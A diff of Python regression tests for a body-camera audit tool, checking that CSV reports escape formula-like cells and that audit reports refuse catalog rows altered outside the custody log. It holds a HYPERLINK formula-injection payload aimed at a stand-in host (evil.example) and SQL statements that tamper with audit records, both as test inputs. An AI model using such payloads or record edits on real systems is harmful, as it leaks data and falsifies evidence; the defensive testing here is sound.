@@ -103,6 +103,9 @@ def city(bwc, home: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-de
             (None, None, "2026-10-20T10:00:00", "2026-10-20T10:30:00", 1),
         ],
     )
+    # clock checks are audit inputs: recorded through bwc, so the custody log has them
+    r = bwc("devices", "clock", "DSJ0100", "--offset", "+30s", "--at", "2026-10-15T18:00:00+08:00")
+    assert r.code == 0, r.err
     with station(home).session() as s:
         s.add(  # a file with no recorded time, ingested in October
             Item(
@@ -114,14 +117,6 @@ def city(bwc, home: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-de
                 station_id="st-test",
                 original_path="GPS0001.csv",
                 ingested_at=local("2026-10-15T20:00:00"),
-            )
-        )
-        s.add(
-            DeviceClock(
-                device_id="DSJ0100",
-                offset_ms=30_000,
-                measured_at=local("2026-10-15T18:00:00"),
-                recorded_by="test",
             )
         )
 
@@ -325,3 +320,145 @@ def test_ingested_footage_is_audited(bwc, home: Path, camera: Path, tmp_path: Pa
     (me,) = [o for o in data["officers"] if o["officer_id"] == "110023"]
     assert (me["cases"], me["full"], me["mean_coverage"]) == (1, 1, 1.0)
     assert me["uploads"] >= 3
+
+
+def test_csv_report_cells_never_run_as_formulas(bwc, home: Path, tmp_path: Path) -> None:
+    """Regression (issue 12): imported text starting with = + - @ reached the CSV as is, where
+    a spreadsheet runs it as a formula. It is written with a leading ' ; numbers stay numbers."""
+    link = '"=HYPERLINK(""http://evil.example/?""&A1,""open"")"'
+    officers = f"officer_id,name,unit,county,frontline\n@9,{link},=UNIT(),-3+2,是\n"
+    cases = "case_id,category,unit,officers,start,end,location\n"
+    cases += f"{link},x,=UNIT(),@9,2026-10-15T09:30:00,2026-10-15T09:40:00,+loc\n"
+    for kind, text in (("officers", officers), ("cases", cases)):
+        r = bwc("audit", "import", kind, write(tmp_path, f"{kind}.csv", text))
+        assert r.code == 0, r.err
+    for by in ("officer", "unit", "county"):
+        r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--by", by)
+        assert r.code == 0, r.err
+        rows = list(csv.reader(io.StringIO(r.out)))
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (by, cell)
+        assert len(rows) == 2
+    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv")
+    row = next(csv.DictReader(io.StringIO(r.out)))
+    assert row["officer_id"] == "'@9"
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert (row["unit"], row["county"]) == ("'=UNIT()", "'-3+2")
+    assert (row["cases"], row["none"], row["full_rate"]) == ("1", "1", "0.0000")
+
+
+# ------------------------------------------------------------------ inputs against the log
+
+TAMPER_INPUTS = {
+    # an explanation nobody gave: the pair now counts as explained
+    "explanations": "INSERT INTO explanation (case_id, officer_id, reason, actor, station_id, at)"
+    " VALUES ('C1', '110024', 'battery', 'x', 'st-test', '2026-10-16 00:00:00.000000')",
+    # a clock check moved: the ledger-attributed clip now covers more of C1
+    "clocks": "UPDATE device_clock SET offset_ms = 200000",
+    "officers": "UPDATE officer SET unit = '城西中队' WHERE officer_id = '110023'",
+    "cases": "UPDATE enforcement_case SET \"end\" = '2026-10-15 01:35:00.000000'"
+    " WHERE case_id = 'C1'",
+    "case officers": "DELETE FROM case_officer WHERE case_id = 'C1' AND officer_id = '110024'",
+    "assignments": "UPDATE assignment SET officer_id = '110023' WHERE device_id = 'DSJ0100'"
+    " AND officer_id = '110024'",
+}
+
+
+def sql(home: Path, query: str) -> None:
+    import contextlib
+    import sqlite3
+
+    with contextlib.closing(sqlite3.connect(home / "catalog.sqlite")) as con, con:
+        assert con.execute(query).rowcount >= 1, query
+
+
+@pytest.mark.parametrize("table", list(TAMPER_INPUTS))
+def test_report_refuses_inputs_changed_outside_bwc(
+    bwc,  # type: ignore[no-untyped-def]
+    home: Path,
+    tmp_path: Path,
+    table: str,
+) -> None:
+    """Regression (issue 12 #11): an explanation or a clock offset written with sqlite3
+    changed the audit report while `bwc log verify` passed. Every input bwc records is in
+    the custody log; the report checks them first and refuses, naming the table."""
+    city(bwc, home, tmp_path)
+    r = bwc("audit", "explain", "C3", "110023", "--reason", "storage full")
+    assert r.code == 0, r.err
+    before = bwc("audit", "report", "--month", "2026-10", "--format", "json")
+    assert before.code == 0, before.err
+
+    sql(home, TAMPER_INPUTS[table])
+    assert bwc("log", "verify").code == 0  # the log itself is untouched
+    name = "cases" if table == "case officers" else table
+    for args in (("report", "--month", "2026-10", "--format", "csv"), ("case", "C1")):
+        r = bwc("audit", *args)
+        assert r.code == 1, (args, r.out, r.err)
+        assert r.out == "" and "inputs do not verify" in r.err and f"{name}:" in r.err, r.err
+        assert "Traceback" not in r.err
+    r = bwc("audit", "verify")
+    assert r.code == 1 and f"FAIL {name}: " in r.out, r.out
+
+    # reported anyway only when asked, and then loudly
+    r = bwc("audit", "report", "--month", "2026-10", "--format", "json", "--allow-unverified")
+    assert r.code == 0, r.err
+    data = json.loads(r.out)
+    assert any(u.startswith(f"{name}:") for u in data["unverified_inputs"])
+    assert any(w.startswith("UNVERIFIED INPUT") for w in data["warnings"])
+    assert "UNVERIFIED INPUT" in r.err
+
+
+def test_seal_logs_the_inputs_of_an_older_catalog(bwc, home: Path, tmp_path: Path) -> None:
+    """Rows from before inputs were logged (written here straight to the catalog) are
+    unverified until `bwc audit seal` logs them once; after it, a change is detected."""
+    city(bwc, home, tmp_path)
+    with station(home).session() as s:
+        s.add(
+            DeviceClock(
+                device_id="DSJ0042",
+                offset_ms=-2000,
+                measured_at=local("2026-10-14T18:00:00"),
+                recorded_by="before-upgrade",
+            )
+        )
+        s.add(
+            Explanation(
+                case_id="C1",
+                officer_id="110024",
+                reason="old",
+                actor="a",
+                station_id="st-test",
+                at=local("2026-10-16T09:00:00"),
+            )
+        )
+    r = bwc("audit", "report", "--month", "2026-10")
+    assert r.code == 1 and "clocks: 1 row(s)" in r.err and "explanations: 1 row(s)" in r.err
+    r = bwc("audit", "seal", "--json")
+    assert r.code == 0, r.err
+    sealed = json.loads(r.out)
+    assert sealed["clocks"]["added"] == 1 and sealed["explanations"]["added"] == 1
+    assert sealed["officers"] == {"added": 0, "changed": 0, "removed": 0}
+    r = bwc("audit", "report", "--month", "2026-10", "--format", "json")
+    assert r.code == 0 and json.loads(r.out)["unverified_inputs"] == [], r.err
+    assert bwc("audit", "verify").code == 0
+    assert bwc("log", "verify").code == 0
+    sql(home, "UPDATE explanation SET reason = 'edited' WHERE reason = 'old'")
+    r = bwc("audit", "report", "--month", "2026-10")
+    assert r.code == 1 and "explanations: 1 row(s)" in r.err, r.err
+
+
+def test_report_compares_the_values_of_the_cases_it_reads(bwc, home: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """A month's report digests only the cases it reads (a city keeps years of them); the
+    others must still be there and logged. `audit verify` checks everything."""
+    city(bwc, home, tmp_path)
+    sql(home, "UPDATE enforcement_case SET location = 'x' WHERE case_id = 'C0'")  # September
+    assert bwc("audit", "report", "--month", "2026-10").code == 0
+    r = bwc("audit", "report", "--month", "2026-09")
+    assert r.code == 1 and "C0 differs from the log" in r.err, r.err
+    r = bwc("audit", "verify")
+    assert r.code == 1 and "C0 differs from the log" in r.out, r.out
+    sql(home, "DELETE FROM case_officer WHERE case_id = 'C0'")
+    sql(home, "DELETE FROM enforcement_case WHERE case_id = 'C0'")
+    r = bwc("audit", "report", "--month", "2026-10")
+    assert r.code == 1 and "C0 is in the log but not in the catalog" in r.err, r.err
